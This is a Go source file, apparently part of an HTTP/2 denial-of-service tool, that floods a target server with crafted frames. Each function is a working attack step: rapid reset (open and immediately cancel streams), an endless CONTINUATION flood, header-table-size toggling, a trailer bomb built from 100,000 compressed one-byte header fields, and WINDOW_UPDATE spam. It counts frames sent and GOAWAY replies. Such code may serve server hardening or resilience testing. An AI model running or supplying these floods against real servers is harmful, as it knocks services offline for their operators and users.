package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frameBytes is the most that every server takes in one frame.
const frameBytes = 16 << 10

// flooder writes HTTP/2 frames as fast as the server takes them.
type flooder struct {
	*http2.Framer
	attack  *attack
	block   bytes.Buffer
	encoder *hpack.Encoder
}

// flood makes an attack of a step that is done again and again: i counts them.
func flood(begin func(f *flooder) (step func(i int) error, err error)) func(context.Context, *attack, net.Conn) error {
	return func(ctx context.Context, a *attack, conn net.Conn) error {
		out := bufio.NewWriterSize(conn, 16<<10)
		f := &flooder{Framer: http2.NewFramer(out, conn), attack: a}
		f.encoder = hpack.NewEncoder(&f.block)
		f.AllowIllegalWrites = true
		var reading sync.WaitGroup
		reading.Go(f.listen)
		err := f.pour(ctx, out, begin)
		_ = conn.SetReadDeadline(time.Now().Add(lastWords)) // fails when it has ended
		reading.Wait()
		return err
	}
}

// lastWords is how long the server may still say why it ends a connection.
const lastWords = 100 * time.Millisecond

// pour writes until the server ends the connection.
func (f *flooder) pour(ctx context.Context, out *bufio.Writer, begin func(f *flooder) (func(i int) error, error)) error {
	_, err := io.WriteString(out, http2.ClientPreface)
	if err := errors.Join(err, f.WriteSettings()); err != nil {
		return err
	}
	step, err := begin(f)
	if err != nil {
		return err
	}
	for i := 0; ctx.Err() == nil; i++ {
		if err := step(i); err != nil {
			return err
		}
		f.attack.sent.Add(1)
	}
	return errors.Join(ctx.Err(), out.Flush())
}

// listen takes what the server says, until it ends the connection.
func (f *flooder) listen() {
	for {
		frame, err := f.ReadFrame()
		var stream http2.StreamError
		if err != nil && !errors.As(err, &stream) {
			return
		}
		if _, ok := frame.(*http2.GoAwayFrame); ok {
			f.attack.goAways.Add(1)
		}
	}
}

// request is the header block of a request, with more fields.
func (f *flooder) request(path string, more ...hpack.HeaderField) []byte {
	f.block.Reset()
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: f.attack.target.address.String()},
		{Name: ":path", Value: path},
	}
	for _, field := range append(fields, more...) {
		_ = f.encoder.WriteField(field) // into memory
	}
	return f.block.Bytes()
}

// rapidReset asks and takes it back: the server has the work, no stream is
// ever open.
func rapidReset(f *flooder) (func(int) error, error) {
	return func(i int) error {
		stream := uint32(2*i + 1)
		head := http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.request(f.attack.target.path), EndStream: true, EndHeaders: true}
		return errors.Join(f.WriteHeaders(head), f.WriteRSTStream(stream, http2.ErrCodeCancel))
	}, nil
}

// continuation never comes to the end of a header.
func continuation(f *flooder) (func(int) error, error) {
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.request(f.attack.target.path), EndStream: true})
	f.block.Reset()
	for f.block.Len() < frameBytes-100 {
		_ = f.encoder.WriteField(hpack.HeaderField{Name: "x-filler", Value: "y", Sensitive: true}) // into memory
	}
	return func(int) error { return f.WriteContinuation(1, false, f.block.Bytes()) }, err
}

// tableSize makes the server forget and make anew the table of its header
// compression, and say so each time.
func tableSize(f *flooder) (func(int) error, error) {
	return func(i int) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(i%2) * 4096})
	}, nil
}

// trailerFields is how many fields say that a trailer comes.
const trailerFields = 100_000

// trailers asks with a header of that many fields, which is small as it is
// sent: each but the first is one byte, the newest entry of the table.
func trailers(f *flooder) (func(int) error, error) {
	return func(i int) error {
		first := f.request(f.attack.target.path, hpack.HeaderField{Name: "trailer", Value: "x"})
		rest := append(bytes.Clone(first), bytes.Repeat([]byte{0x80 | 62}, trailerFields-1)...)
		stream := uint32(2*i + 1)
		n := min(len(rest), frameBytes)
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: rest[:n], EndStream: true})
		for rest = rest[n:]; len(rest) > 0 && err == nil; rest = rest[n:] {
			n = min(len(rest), frameBytes)
			err = f.WriteContinuation(stream, n == len(rest), rest[:n])
		}
		return err
	}, nil
}

// windowUpdates are the smallest frames that mean something.
func windowUpdates(f *flooder) (func(int) error, error) {
	return func(int) error { return f.WriteWindowUpdate(0, 1) }, nil
}
